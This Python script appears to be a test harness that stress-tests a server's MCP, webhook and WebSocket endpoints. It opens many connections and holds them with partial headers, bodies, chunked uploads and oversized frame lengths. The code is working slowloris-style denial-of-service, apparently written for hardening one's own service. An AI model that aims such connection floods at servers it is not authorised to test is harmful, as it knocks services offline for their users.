"""Hostile clients: opens connections that never finish what they begin, and holds them.

    attacks.py ADDRESS:PORT ATTACK COUNT

prints the number of connections it has opened, and holds them until standard input ends. The attack "wait"
cancels its calls instead. TOKEN has the bearer token for the attacks that need one. Uses only the standard
library.
"""

import os
import resource
import socket
import struct
import sys

HEAD = b"POST %s HTTP/1.1\r\nHost: attacker\r\nAuthorization: Bearer %s\r\n"
TOKEN = os.environ.get("TOKEN", "").encode()
WAIT = (
    b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"wait_for_message",'
    b'"arguments":{"user_id":"%d","timeout_seconds":60}}}'
)
# Descriptors beside the connections.
SPARE = 32
# Number of connections after which the client waits until the server has caught up, because an attack on
# memory and connections must not become one on the processor. Calls that wait are then cancelled.
BATCH = 100


def post(path, length, extra=b""):
    return HEAD % (path, TOKEN) + extra + b"Content-Length: %d\r\n\r\n" % length


def chunked(path, extra, chunks):
    head = HEAD % (path, TOKEN) + extra + b"Transfer-Encoding: chunked\r\n\r\n"
    return head + b"1\r\n \r\n" * chunks


def frame(length):
    """The upgrade to a WebSocket, and the head of a masked text frame with the first byte of its text."""
    upgrade = (
        b"GET /mcp/ws HTTP/1.1\r\nHost: attacker\r\nAuthorization: Bearer %s\r\nConnection: Upgrade\r\n"
        b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n"
    )
    return upgrade % TOKEN + struct.pack("!BBQI", 0x81, 0xFF, length, 0) + b"{"


SIGNATURE = b"X-Hub-Signature-256: sha256=" + b"0" * 64 + b"\r\n"

# What a connection of each attack sends.
ATTACKS = {
    "idle": lambda _: b"",
    "head": lambda _: b"GET / HTTP/1.1\r\nX: " + b"a" * 400_000,
    "small-head": lambda _: b"GET / HTTP/1.1\r\nX: " + b"a" * 16_000,
    "body": lambda _: post(b"/mcp", 64 * 1024) + b" " * (64 * 1024 - 1),
    "webhook": lambda _: post(b"/webhooks/whatsapp", 256 * 1024, SIGNATURE) + b" " * (256 * 1024 - 1),
    "webhook-chunks": lambda _: chunked(b"/webhooks/whatsapp", SIGNATURE, 256 * 1024 - 1),
    "frame": lambda _: frame(15 * 1024 * 1024),
    "wait": lambda n: post(b"/mcp", len(WAIT % n)) + WAIT % n,
}


def catch_up(address):
    with socket.create_connection(address, timeout=10) as connection:
        connection.sendall(b"GET /health HTTP/1.1\r\nHost: attacker\r\nConnection: close\r\n\r\n")
        while connection.recv(1024):
            pass


def main():
    attack, count = ATTACKS[sys.argv[2]], int(sys.argv[3])
    host, port = sys.argv[1].rsplit(":", 1)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if hard != resource.RLIM_INFINITY:
        count = min(count, hard - SPARE)
    address = (host, int(port))
    connections, opened = [], 0
    for number in range(count):
        connection = socket.create_connection(address, timeout=10)
        connections.append(connection)
        opened += 1
        try:
            connection.settimeout(0.5)
            connection.sendall(attack(number))
        except OSError:
            pass  # The server has closed the connection, or reads no more.
        if opened % BATCH == 0:
            catch_up(address)
            while sys.argv[2] == "wait" and connections:
                connections.pop().close()
    print(opened, flush=True)
    sys.stdin.read()


main()
